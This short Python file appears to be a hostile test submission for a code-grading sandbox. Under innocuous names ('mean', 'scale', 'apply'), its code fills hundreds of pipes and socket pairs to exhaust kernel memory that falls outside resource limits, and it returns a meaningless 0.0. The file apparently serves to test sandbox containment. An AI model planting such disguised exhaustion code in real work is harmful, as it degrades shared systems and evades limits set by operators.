# Fills pipes and socket pairs, whose contents are the kernel's memory and nobody's limit.
# everywhere: wrong_answer, 0 points
import fcntl
import os
import socket


def mean(x):
    kept = []
    try:
        for _ in range(1000):
            reading, writing = os.pipe()
            kept += [reading, writing]
            try:
                fcntl.fcntl(writing, 1031, 1 << 20)
            except OSError:
                pass
            os.set_blocking(writing, False)
            os.write(writing, bytes(1 << 20))
            one, other = socket.socketpair()
            kept += [one.detach(), other.detach()]
            os.set_blocking(kept[-1], False)
            os.write(kept[-1], bytes(1 << 22))
    except OSError:
        pass
    for each in kept:
        try:
            os.close(each)
        except OSError:
            pass
    return 0.0

def scale(x, c):
    return mean(x)


def apply(f, x):
    return mean(x)
